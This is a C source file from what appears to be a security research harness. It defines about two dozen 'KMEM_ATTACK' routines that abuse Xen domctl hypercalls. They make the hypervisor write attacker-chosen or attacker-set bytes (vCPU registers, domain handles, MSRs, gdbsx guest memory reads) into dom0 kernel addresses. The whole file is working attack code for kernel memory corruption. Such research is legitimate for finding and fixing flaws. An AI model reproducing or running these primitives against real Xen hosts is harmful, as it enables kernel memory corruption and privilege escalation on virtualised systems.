// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through domctl: reports on a domain, be it dom0 itself or one that is
 * made for the purpose. What such a domain contains is the attacker's to
 * choose, and so is then what Xen writes.
 */
#include "kmem.h"

#include <xen/hvm/save.h>

/* The part of a domctl up to and with a field. */
#define UP_TO(field)                                                           \
    (offsetof(struct xen_domctl, u.field) +                                    \
     sizeof(((struct xen_domctl *)0)->u.field))
#define HEADER_ONLY offsetof(struct xen_domctl, u)

/* ---- into a buffer ---- */

/* U-KMEM-VCPUAFF: a bit for each CPU, and then zeros, as many as wanted. */
KMEM_ATTACK("U-KMEM-VCPUAFF", "a vCPU's affinity into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getvcpuaffinity };

    op.u.vcpuaffinity.flags = XEN_VCPUAFFINITY_HARD;
    op.u.vcpuaffinity.cpumap_hard.bitmap.p = AT_VICTIM;
    op.u.vcpuaffinity.cpumap_hard.nr_bits = 64;
    return domctl(&op);
}

/* U-KMEM-NODEAFF: a bit for each NUMA node, and then zeros. */
KMEM_ATTACK("U-KMEM-NODEAFF", "a domain's NUMA nodes into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getnodeaffinity };

    op.u.nodeaffinity.nodemap.bitmap.p = AT_VICTIM;
    op.u.nodeaffinity.nodemap.nr_bits = 64;
    return domctl(&op);
}

/*
 * U-KMEM-PAGEINFO: 8 bytes, the type of the frame whose number was there
 * before; of what is no frame, that it is none.
 */
KMEM_ATTACK("U-KMEM-PAGEINFO", "the types of frames into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getpageframeinfo3 };

    op.u.getpageframeinfo3.array.p = AT_VICTIM;
    op.u.getpageframeinfo3.num = 1;
    return domctl(&op);
}

/*
 * U-KMEM-VCPUCTX: 5 KB, the registers and tables of a vCPU. What runs there is
 * the attacker's as well, and puts into them what it likes.
 */
KMEM_ATTACK("U-KMEM-VCPUCTX", "an accomplice's registers into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getvcpucontext };
    long result;

    accomplice_start();
    op.domain = accomplice_domid();
    op.u.vcpucontext.ctxt.p = (void *)in_own_pages(NULL, 0);
    result = domctl(&op);
    accomplice_end();

    return result;
}

/*
 * U-KMEM-EXTSTATE: some hundred bytes to a few KB, the vector registers of a
 * vCPU, which can be set before.
 */
KMEM_ATTACK("U-KMEM-EXTSTATE", "a vCPU's vector registers into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getvcpuextstate };

    op.domain = other_domain(DOMU_HVM);
    domctl(&op); /* without a buffer: tells mask and size */
    op.u.vcpuextstate.buffer.p = (void *)in_own_pages(NULL, 0);
    return domctl(&op);
}

/*
 * U-KMEM-VCPUMSRS: 16 bytes for each of a vCPU's machine registers that is not
 * zero, of which one is set just before; and back into the argument, how many
 * there are.
 */
KMEM_ATTACK("U-KMEM-VCPUMSRS", "a vCPU's machine registers into the kernel")
{
    xen_domctl_vcpu_msr_t tsc_aux = { .index = 0xc0000103,
                                      .value = 0x746f6f72 };
    struct xen_domctl op = { .cmd = XEN_DOMCTL_set_vcpu_msrs };

    op.domain = other_domain(DOMU_PV);
    op.u.vcpu_msrs.msrs.p = &tsc_aux;
    op.u.vcpu_msrs.msr_count = 1;
    domctl(&op);

    op.cmd = XEN_DOMCTL_get_vcpu_msrs;
    op.u.vcpu_msrs.msrs.p = AT_VICTIM;
    op.u.vcpu_msrs.msr_count = 7;
    return domctl_in_host_name(op, UP_TO(vcpu_msrs));
}

/*
 * U-KMEM-DOMPOLICY: 24 bytes for each CPUID leaf of a domain, most of which can
 * be set before.
 */
KMEM_ATTACK("U-KMEM-DOMPOLICY", "a domain's CPUID leaves into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_cpu_policy };

    op.u.cpu_policy.leaves.p = AT_VICTIM;
    op.u.cpu_policy.nr_leaves = 1;
    return domctl(&op);
}

/* U-KMEM-HVMCTX: the whole state of an HVM domain, which can be set before. */
KMEM_ATTACK("U-KMEM-HVMCTX", "an HVM domain's state into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_gethvmcontext };

    op.domain = other_domain(DOMU_HVM);
    domctl(&op); /* without a buffer: tells the size */
    if ( op.u.hvmcontext.size > OWN_SIZE )
        return cannot_show("the state is larger than the memory for it");

    op.u.hvmcontext.buffer.p = (void *)in_own_pages(NULL, 0);
    return domctl(&op);
}

/* U-KMEM-HVMPART: one record of it. */
KMEM_ATTACK("U-KMEM-HVMPART", "part of an HVM domain's state into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_gethvmcontext_partial };

    op.domain = other_domain(DOMU_HVM);
    op.u.hvmcontext_partial.type = HVM_SAVE_CODE(VMCE_VCPU);
    op.u.hvmcontext_partial.bufsz = 40;
    op.u.hvmcontext_partial.buffer.p = AT_VICTIM;
    return domctl(&op);
}

/*
 * U-KMEM-GDBSX: any bytes at all.
 *
 * gdbsx reads a domain's memory for a debugger, to an address that the debugger
 * names. Here it reads what the attacker has set as host name.
 */
KMEM_ATTACK("U-KMEM-GDBSX", "chosen bytes into the kernel by gdbsx's read")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_gdbsx_guestmemio };

    op.u.gdbsx_guest_memio.gva = in_host_name(new_mark(), MARK_SIZE);
    op.u.gdbsx_guest_memio.uva = victim();
    op.u.gdbsx_guest_memio.len = MARK_SIZE;
    return domctl(&op);
}

/* ---- back into the argument ---- */

/*
 * U-KMEM-DOMINFO: some 120 bytes about a domain, 16 of them its handle, which
 * the attacker sets just before.
 */
KMEM_ATTACK("U-KMEM-DOMINFO", "an argument in the kernel: getdomaininfo")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getdomaininfo };
    struct xen_domctl set = { .cmd = XEN_DOMCTL_setdomainhandle };
    long result;

    memcpy(set.u.setdomainhandle.handle, new_mark(), MARK_SIZE);
    domctl(&set);
    result = domctl_in_host_name(op, HEADER_ONLY);
    memset(set.u.setdomainhandle.handle, 0, MARK_SIZE);
    domctl(&set);

    return result;
}

/* U-KMEM-VCPUINFO: 16 bytes about a vCPU. */
KMEM_ATTACK("U-KMEM-VCPUINFO", "an argument in the kernel: getvcpuinfo")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getvcpuinfo };

    return domctl_in_host_name(op, UP_TO(getvcpuinfo.vcpu));
}

/* U-KMEM-EXTCTX: 80 bytes of a vCPU, entry points of the kernel among them. */
KMEM_ATTACK("U-KMEM-EXTCTX", "an argument in the kernel: get_ext_vcpucontext")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_ext_vcpucontext };

    op.domain = other_domain(DOMU_HVM);
    return domctl_in_host_name(op, UP_TO(ext_vcpucontext.vcpu));
}

/* U-KMEM-ADDRSIZE: 4 bytes, the number 64. */
KMEM_ATTACK("U-KMEM-ADDRSIZE", "an argument in the kernel: get_address_size")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_address_size };

    return domctl_in_host_name(op, HEADER_ONLY);
}

/*
 * U-KMEM-SCHEDPAR: 4 bytes, a domain's weight and cap, which can be set before.
 */
KMEM_ATTACK("U-KMEM-SCHEDPAR", "an argument in the kernel: scheduler_op")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_scheduler_op };

    op.u.scheduler_op.sched_id = XEN_SCHEDULER_CREDIT2;
    op.u.scheduler_op.cmd = XEN_DOMCTL_SCHEDOP_getinfo;
    return domctl_in_host_name(op, UP_TO(scheduler_op.cmd));
}

/* U-KMEM-VMEVENT: 4 bytes, a version. Xen asks nobody's leave for this one. */
KMEM_ATTACK("U-KMEM-VMEVENT", "an argument in the kernel: vm_event_op")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_vm_event_op };

    op.u.vm_event_op.op = XEN_VM_EVENT_GET_VERSION;
    return domctl_in_host_name(op, UP_TO(vm_event_op.mode));
}

/* U-KMEM-MONITOR: 4 bytes, the events that can be monitored. */
KMEM_ATTACK("U-KMEM-MONITOR", "an argument in the kernel: monitor_op")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_monitor_op };

    op.domain = other_domain(DOMU_HVM);
    op.u.monitor_op.op = XEN_DOMCTL_MONITOR_OP_GET_CAPABILITIES;
    return domctl_in_host_name(op, UP_TO(monitor_op.op));
}

/* U-KMEM-TSCINFO: 24 bytes about a domain's clock, which can be set before. */
KMEM_ATTACK("U-KMEM-TSCINFO", "an argument in the kernel: gettscinfo")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_gettscinfo };

    op.domain = other_domain(DOMU_HVM);
    return domctl_in_host_name(op, HEADER_ONLY);
}

/* U-KMEM-MEMPOOL: 8 bytes, the size of a pool, which can be set before. */
KMEM_ATTACK("U-KMEM-MEMPOOL", "an argument in the kernel: paging_mempool_size")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_paging_mempool_size };

    op.domain = other_domain(DOMU_HVM);
    return domctl_in_host_name(op, HEADER_ONLY);
}

/* U-KMEM-SHADOW: the same in megabytes, the older way. */
KMEM_ATTACK("U-KMEM-SHADOW", "an argument in the kernel: shadow_op")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_shadow_op };

    op.domain = other_domain(DOMU_HVM);
    op.u.shadow_op.op = XEN_DOMCTL_SHADOW_OP_GET_ALLOCATION;
    return domctl_in_host_name(op, UP_TO(shadow_op.mode));
}

/* U-KMEM-DEVGROUP: 4 bytes, how many devices share an IOMMU group. */
KMEM_ATTACK("U-KMEM-DEVGROUP", "an argument in the kernel: get_device_group")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_device_group };

    op.u.get_device_group.max_sdevs = 1;
    return domctl_in_host_name(op, UP_TO(get_device_group.max_sdevs));
}

/*
 * U-KMEM-CREATE: 2 bytes, the number of a new domain.
 *
 * The argument is too long for the host name; as the number is found by asking
 * for it, it is the attacker's to choose.
 */
KMEM_ATTACK("U-KMEM-CREATE", "an argument in the kernel: createdomain")
{
    struct xen_domctl op = {
        .cmd = XEN_DOMCTL_createdomain,
        .u.createdomain = { .max_vcpus = 1,
                            .max_evtchn_port = -1U,
                            .max_grant_frames = -1,
                            .max_maptrack_frames = -1,
                            .grant_opts = 1 },
    };
    struct xen_domctl destroy = { .cmd = XEN_DOMCTL_destroydomain };
    uint64_t argument;
    long result;

    op.interface_version = domctl_version();
    argument = in_own_pages(&op, sizeof(op));
    result = hypercall1(__HYPERVISOR_domctl, argument);
    if ( read_back(argument + offsetof(struct xen_domctl, domain),
                   &destroy.domain, sizeof(destroy.domain)) )
        domctl(&destroy);

    return result;
}
